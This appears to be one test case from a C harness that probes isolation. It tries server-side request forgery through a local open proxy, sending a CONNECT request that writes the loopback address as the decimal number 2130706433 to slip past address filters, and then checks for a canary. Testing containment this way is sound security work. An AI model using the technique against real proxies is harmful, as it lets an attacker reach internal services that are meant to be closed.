/* The same by one decimal number. */
#include "../attack.h"

#include "dial.h"

ATTACK(NETWORK, "names", .gain = "a server of the host's, by an address written as one number",
       .source = "server-side request forgery (CWE-918)", .works = SOME_KERNELS,
       .needs = "an open proxy", .flags = NETWORKS)
{
	struct sockaddr_in a = at4("127.0.0.1", *target("proxy") ? target_number("proxy") : 3128);
	char request[512], answer[512] = "";
	int fd = socket_soon(AF_INET, SOCK_STREAM), n;

	if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
		return -1;
	n = snprintf(request, sizeof(request), "CONNECT 2130706433:%s HTTP/1.1\r\nHost: x\r\n\r\n",
		     needed("port"));
	if (send(fd, request, (size_t)n, MSG_NOSIGNAL) != n ||
	    recv(fd, answer, sizeof(answer) - 1, 0) <= 0)
		return -1;
	if (strstr(answer, CANARY))
		return 0;
	/* Opened; then the server speaks first. */
	return strncmp(answer, "HTTP/1.1 200", 12) == 0 ? read_canary(fd) : denied(EACCES);
}
